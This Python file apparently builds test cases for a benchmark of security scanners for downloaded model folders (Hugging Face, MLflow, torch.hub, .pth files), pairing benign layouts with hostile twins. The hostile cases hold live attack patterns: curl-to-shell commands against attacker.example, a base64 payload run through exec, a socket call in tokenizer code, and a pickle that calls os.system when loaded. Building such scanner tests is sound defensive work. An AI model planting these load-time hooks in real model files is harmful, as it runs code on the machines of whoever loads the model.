"""Model folders and loader-run files for the scan comparison: each case is a directory (or one
file) built here with the real libraries where they exist (safetensors, torch, cloudpickle,
scikit-learn), laid out as hub downloads and MLflow saves are, hostile twins written by hand.

Imported by ``bench_scan.py``; ``python bench/repo_cases.py DIR`` writes the cases to DIR.
"""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Case:
    """One input for every scanner."""

    name: str
    """Row title."""
    label: str
    """``malicious`` (loading it runs hostile code or code from elsewhere) or ``benign``."""
    build: Callable[[Path], Path]
    """Writes the case under a folder and returns the path to scan."""


ORDINARY_MODELING = """import math
import os

import torch
from torch import nn

from .configuration_tiny import TinyConfig


class TinyModel(nn.Module):
    def __init__(self, config: TinyConfig) -> None:
        super().__init__()
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.cache = os.environ.get("TINY_CACHE", os.path.expanduser("~/.cache"))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(self.layer(x) * self.scale, dim=-1)
"""
CONFIGURATION = """from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"
"""
SHELL = "import os\nos.system('curl -s http://attacker.example/x | sh')\n"


def _write(folder: Path, files: dict[str, Any]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            path.write_text(json.dumps(content, indent=2))
    return folder


def _hub(folder: Path, modeling: str | None = ORDINARY_MODELING, **extra: Any) -> Path:
    """A Hugging Face download: safetensors weights, configs, tokenizer, custom code."""
    import torch
    from safetensors.torch import save_file

    folder.mkdir(parents=True, exist_ok=True)
    save_file({"layer.weight": torch.zeros(8, 8)}, str(folder / "model.safetensors"))
    config: dict[str, Any] = {
        "architectures": ["TinyModel"],
        "hidden_size": 8,
        "model_type": "tiny",
        "torch_dtype": "float32",
        "transformers_version": "4.46.0",
    }
    files: dict[str, Any] = {
        "tokenizer_config.json": {"bos_token": "<s>", "model_max_length": 2048},
        "generation_config.json": {"_from_model_config": True},
        "README.md": "# Tiny\n",
    }
    if modeling is not None:
        config["auto_map"] = {
            "AutoConfig": "configuration_tiny.TinyConfig",
            "AutoModel": "modeling_tiny.TinyModel",
        }
        files |= {"configuration_tiny.py": CONFIGURATION, "modeling_tiny.py": modeling}
    config |= extra.pop("config", {})
    return _write(folder, {"config.json": config, **files, **extra})


def _mlflow(folder: Path, *, loader: str = "mlflow.sklearn", **extra: Any) -> Path:
    """An MLflow sklearn model as ``mlflow.sklearn.save_model`` writes it."""
    import cloudpickle
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.array([[0.0], [1.0]]), [0, 1])
    code = "    code: code\n" if any(k.startswith("code/") for k in extra) else ""
    mlmodel = (
        "artifact_path: model\nflavors:\n  python_function:\n"
        f"{code}    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n"
        f"    loader_module: {loader}\n    model_path: model.pkl\n    python_version: 3.11.9\n"
        "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n"
        "    sklearn_version: 1.5.1\nmlflow_version: 2.15.1\n"
    )
    return _write(
        folder,
        {
            "MLmodel": mlmodel,
            "model.pkl": cloudpickle.dumps(model),
            "conda.yaml": "dependencies:\n- python=3.11.9\n- pip:\n  - mlflow==2.15.1\n",
            "python_env.yaml": "python: 3.11.9\ndependencies:\n- -r requirements.txt\n",
            "requirements.txt": "mlflow==2.15.1\nscikit-learn==1.5.1\n",
            **extra,
        },
    )


class _ShellModel:
    """A ``PythonModel`` stand-in whose pickle calls ``os.system`` when it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return (os.system, ("echo pwned",))


def _pyfunc(folder: Path) -> Path:
    """A pyfunc model whose cloudpickled ``python_model`` runs a shell when unpickled."""
    import cloudpickle

    mlmodel = (
        "artifact_path: model\nflavors:\n  python_function:\n    cloudpickle_version: 3.0.0\n"
        "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n"
        "mlflow_version: 2.15.1\n"
    )
    pickled = cloudpickle.dumps(_ShellModel())
    return _write(folder, {"MLmodel": mlmodel, "python_model.pkl": pickled})


def _pth(folder: Path, content: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "extension.pth"
    path.write_text(content)
    return path


_HIDDEN = base64.b64encode(b"import socket; socket.create_connection(('x', 4444))").decode()
_EXEC = f"import base64\nexec(base64.b64decode('{_HIDDEN}'))\n"

CASES = (
    Case("HF custom code calling os.system", "malicious",
         lambda d: _hub(d, ORDINARY_MODELING + SHELL)),
    Case("HF custom code, payload in a relative import", "malicious",
         lambda d: _hub(d, "from .utils import go\n" + ORDINARY_MODELING,
                        **{"utils.py": "import subprocess\ndef go():\n"
                           "    subprocess.run('id', shell=True)\n"})),
    Case("HF custom code, exec of a base64 payload", "malicious",
         lambda d: _hub(d, ORDINARY_MODELING + _EXEC)),
    Case("HF tokenizer auto_map to a socket", "malicious",
         lambda d: _hub(d, None, **{
             "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tok.Tok", None]}},
             "tok.py": "import socket\nsocket.create_connection(('attacker.example', 80))\n"})),
    Case("HF auto_map into another repository", "malicious",
         lambda d: _hub(d, None, config={
             "auto_map": {"AutoModel": "attacker/tiny-code--modeling_tiny.TinyModel"}})),
    Case("HF config selecting a hub kernel", "malicious",
         lambda d: _hub(d, None, config={"_attn_implementation": "attacker/kernels"})),
    Case("MLflow loader_module in code/ running a shell", "malicious",
         lambda d: _mlflow(d, loader="my_loader", **{"code/my_loader.py": SHELL})),
    Case("MLflow code/ module shadowing json", "malicious",
         lambda d: _mlflow(d, **{"code/json.py": "def loads(s):\n    return {}\n"})),
    Case("MLflow cloudpickled python_model", "malicious", _pyfunc),
    Case("torch.hub hubconf.py running a shell", "malicious",
         lambda d: _write(d, {"hubconf.py": "dependencies = ['torch']\n" + SHELL})),
    Case(".pth start-up hook", "malicious",
         lambda d: _pth(d, "import os; os.system('curl -s http://attacker.example | sh')\n")),
    Case("HF custom code, ordinary torch", "benign", lambda d: _hub(d)),
    Case("HF safetensors repository, no code", "benign", lambda d: _hub(d, None)),
    Case("HF config with sdpa attention", "benign",
         lambda d: _hub(d, None, config={"_attn_implementation": "sdpa"})),
    Case("MLflow sklearn model", "benign", lambda d: _mlflow(d)),
    Case(".pth listing folders", "benign", lambda d: _pth(d, "../vendor\n/opt/lib\n")),
)  # fmt: skip


def build_all(root: Path) -> list[tuple[Case, Path]]:
    """Write every case under ``root`` (one folder each); return the paths to scan."""
    out = []
    for i, case in enumerate(CASES):
        out.append((case, case.build(root / f"case{i:02d}")))
    return out


if __name__ == "__main__":
    for case, path in build_all(Path(sys.argv[1])):
        print(f"{case.label:9} {path}  {case.name}")
